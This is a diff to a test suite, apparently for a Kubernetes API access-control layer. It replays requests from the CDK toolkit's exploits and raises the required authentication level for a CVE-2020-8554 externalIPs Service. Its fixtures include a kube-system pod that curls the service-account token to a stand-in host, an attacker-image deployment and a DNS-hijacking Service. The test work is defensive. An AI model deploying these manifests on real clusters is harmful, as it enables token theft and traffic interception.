@@ -354,7 +354,7 @@ const shadowApiserver = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'kube
 const saTokenPod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'cdk-rbac-bypass-create-pod', namespace: 'kube-system' }, spec: { automountServiceAccountToken: true, serviceAccountName: 'clusterrole-aggregation-controller', containers: [{ name: 'cdk-rbac-bypass-create-pod', image: 'nginx', args: ['/bin/sh', '-c', 'curl -k -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.7/'] }] } };
 const mitmService = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'mitm-externalip' }, spec: { externalIPs: ['8.8.8.8'], ports: [{ name: 'tcp', port: 53, targetPort: 53 }], selector: { app: 'mitm-payload-deploy' }, type: 'ClusterIP' } };
 
-describe('CDK (11 requests of its Kubernetes exploits)', () => {
+describe('CDK (12 requests of its Kubernetes exploits)', () => {
   run([
     // CDK's secret and configmap dumps build the request with the method "get" as written.
     { src: 'CDK k8s-secret-dump', what: 'GET /api/v1/secrets (sent as method "get")', ua: UA.cdk, req: { method: 'get', path: '/api/v1/secrets', headers: CDK_CT }, need: 'invalid' },
@@ -368,7 +368,10 @@ describe('CDK (11 requests of its Kubernetes exploits)', () => {
     { src: 'CDK k8s-get-sa-token', what: 'a pod in kube-system running as a privileged service account', ua: UA.cdk, req: post('/api/v1/namespaces/kube-system/pods', saTokenPod, CDK_CT), need: 'aal3', by: 'system-workload-creates' },
     { src: 'CDK k8s-mitm-clusterip', what: 'its payload Deployment in default', ua: UA.cdk, req: post('/apis/apps/v1/namespaces/default/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'mitm-payload-deploy' }, spec: { replicas: 1, selector: { matchLabels: { app: 'mitm-payload-deploy' } }, template: { metadata: { labels: { app: 'mitm-payload-deploy' } }, spec: { containers: [{ image: 'ghcr.io/attacker/dns:1', name: 'mitm-payload-deploy', ports: [{ containerPort: 53, name: 'tcp' }] }] } } } }, CDK_CT), need: 'routine' },
     // CVE-2020-8554: every pod's traffic to 8.8.8.8:53 goes to the attacker's pods.
-    { src: 'CDK k8s-mitm-clusterip', what: 'a Service with externalIPs (CVE-2020-8554)', ua: UA.cdk, req: post('/api/v1/namespaces/default/services', mitmService, CDK_CT), need: 'aal2', by: 'guardrail:service_external_ip' },
+    { src: 'CDK k8s-mitm-clusterip', what: 'a Service with externalIPs (CVE-2020-8554)', ua: UA.cdk, req: post('/api/v1/namespaces/default/services', mitmService, CDK_CT), need: 'aal3', by: 'guardrail:service_external_ip' },
+    // The same Service as `kubectl expose … --external-ip` sends it: from the victim's laptop, as
+    // kubectl, two factors a minute old were enough while the tier's default (aal2, 15 min) held.
+    { src: 'CDK k8s-mitm-clusterip', what: 'the Service with externalIPs through kubectl expose', ua: UA.kubectl, req: post('/api/v1/namespaces/default/services?fieldManager=kubectl-expose', mitmService), need: 'aal3', by: 'guardrail:service_external_ip' },
   ]);
 });
 
